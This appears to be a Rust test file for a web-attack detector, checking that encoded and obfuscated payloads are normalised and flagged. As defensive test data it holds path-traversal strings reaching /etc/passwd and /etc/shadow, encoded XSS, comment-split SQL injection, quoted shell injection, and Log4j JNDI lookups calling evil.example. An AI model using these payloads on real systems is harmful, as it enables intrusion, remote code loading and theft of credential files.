//! Normalisation: encodings and obfuscations attackers use to hide payloads are undone
//! before matching (double percent-encoding, mixed case, SQL comments, fullwidth Unicode,
//! HTML entities, null bytes, overlong UTF-8, shell quoting, Log4j lookups).

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod support;

use support::request::*;

#[test]
fn double_and_triple_percent_encoding() {
    let det = detector();
    let i = query(&det, "file=%252e%252e%252f%252e%252e%252fetc%252fpasswd");
    assert!(ids(&i).contains(&"lfi.traversal"), "{:?}", ids(&i));
    let i = query(&det, "q=%25253Cscript%25253Ealert(1)");
    assert!(ids(&i).contains(&"xss.script_tag"), "{:?}", ids(&i));
}

#[test]
fn mixed_case_keywords() {
    let det = detector();
    assert_blocked(&det, &["1 UnIoN SeLeCt 1,2", "<ScRiPt>alert(1)</sCrIpT>"]);
}

#[test]
fn sql_comments_inside_payloads() {
    let det = detector();
    assert_blocked(
        &det,
        &[
            "1/**/union/**/select/**/1,2",
            "1 /*!50000union*/ /*!50000select*/ 1",
            "1'/**/or/**/'1'='1",
        ],
    );
}

#[test]
fn fullwidth_unicode_is_folded() {
    let det = detector();
    let i = query_value(
        &det,
        "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    );
    assert!(ids(&i).contains(&"xss.script_tag"), "{:?}", ids(&i));
    let i = query(&det, "q=%uff1cscript%uff1e");
    assert!(ids(&i).contains(&"xss.script_tag"), "{:?}", ids(&i));
}

#[test]
fn html_entities_are_decoded() {
    let det = detector();
    let i = json(&det, &serde_json::json!({"url": "javascript&#58;alert(1)"}));
    assert!(ids(&i).contains(&"xss.script_uri"), "{:?}", ids(&i));
    let i = json(
        &det,
        &serde_json::json!({"x": "&lt;script&gt;alert(1)&lt;/script&gt;"}),
    );
    assert!(ids(&i).contains(&"xss.script_tag"), "{:?}", ids(&i));
    let i = json(
        &det,
        &serde_json::json!({"x": "&#x3c;svg onload=alert(1)&#x3e;"}),
    );
    assert!(i.score >= 5, "{:?}", ids(&i));
}

#[test]
fn null_bytes_are_removed() {
    let det = detector();
    let i = query(&det, "q=%3Cscr%00ipt%3Ealert(1)");
    assert!(ids(&i).contains(&"xss.script_tag"), "{:?}", ids(&i));
}

#[test]
fn overlong_utf8_and_backslashes_in_traversal() {
    let det = detector();
    let i = query(&det, "f=/etc/./passwd");
    assert!(ids(&i).contains(&"lfi.sensitive_file"), "{:?}", ids(&i));
    let i = query(&det, "f=/etc//shadow");
    assert!(ids(&i).contains(&"lfi.sensitive_file"), "{:?}", ids(&i));
    for q in [
        "f=..%c0%af..%c0%afetc%c0%afpasswd",
        "f=..%5c..%5cwindows%5cwin.ini",
        "f=..%2f..%2f..%2fboot.ini",
    ] {
        let i = query(&det, q);
        assert!(ids(&i).contains(&"lfi.traversal"), "{q}: {:?}", ids(&i));
    }
}

#[test]
fn shell_quoting_and_variable_tricks() {
    let det = detector();
    assert_blocked(
        &det,
        &[
            ";c'a't /etc/passwd",
            ";w\"h\"o\"a\"mi",
            ";c${u}url http://x",
            "a;cat${IFS}/etc/passwd",
        ],
    );
}

#[test]
fn log4j_lookup_obfuscation() {
    let det = detector();
    for v in [
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:ldap://evil.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
        "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://evil.example/a}",
        "$\\u007Bjndi:ldap://evil.example/a}",
    ] {
        let i = json(&det, &serde_json::json!({ "v": v }));
        assert!(ids(&i).contains(&"java.jndi_lookup"), "{v}: {:?}", ids(&i));
    }
}

#[test]
fn plus_is_a_space_in_queries_only() {
    let det = detector();
    let i = query(&det, "q=1+union+select+1,2");
    assert!(ids(&i).contains(&"sqli.union_select"), "{:?}", ids(&i));
}
